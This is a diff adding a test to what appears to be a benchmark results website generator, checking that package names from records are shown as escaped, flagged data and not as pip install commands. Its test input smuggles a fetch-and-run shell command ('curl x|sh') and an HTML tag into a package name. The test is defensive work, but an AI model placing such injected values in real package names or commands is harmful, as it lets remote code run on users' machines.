@@ -346,3 +346,26 @@ def test_two_runs_with_different_metric_sets_share_one_row(tmp_path):
     assert "metric 'lmd_mouth' was computed under another protocol" in reasons["e.json"]
     page = (site.out / "records" / "strong__synthetic.html").read_text()
     assert 'id="metric-lmd_mouth"' in page
+
+
+def test_reproduce_block_shows_recorded_packages_as_flagged_data_not_commands(tmp_path):
+    """A record's plugin names became `pip install` lines on our page, as if we advised them."""
+    evil = syn.PLUGIN.model_copy(
+        update={"distribution": "totally-safe; curl x|sh", "version": "<b>1</b>"}
+    )
+    record = syn.record("strong", [syn.metric("psnr_rgb", {0: [1.0] * 12})])
+    record.provenance.plugins.append(evil)
+    record.method.plugin = evil
+    results = tmp_path / "results"
+    write(results, "a.json", dump_record(record))
+    site = build_site(tmp_path / "site", results=results, plots=False, n_boot=200)
+    page = (site.out / "records" / "strong__synthetic.html").read_text()
+    command = page.split('<pre class="command">')[1].split("</pre>")[0]
+    assert "totally-safe" not in command and command.count("pip install") == 1  # the suite only
+    recorded = page.split('id="recorded-packages"')[1].split("</table>")[0]
+    assert "recorded in this record" in page and "not a recommendation" in page
+    assert "<code>totally-safe; curl x|sh</code>" in recorded and "&lt;b&gt;1&lt;/b&gt;" in recorded
+    rows = {r.split("<td><code>")[1].split("</code>")[0]: r for r in recorded.split("<tr")[2:]}
+    assert "not a known plugin" in rows["totally-safe; curl x|sh"]
+    assert "not a known plugin" not in rows["auhead-bench"]
+    assert "totally-safe" not in site.index.read_text().split('class="repro"')[1]
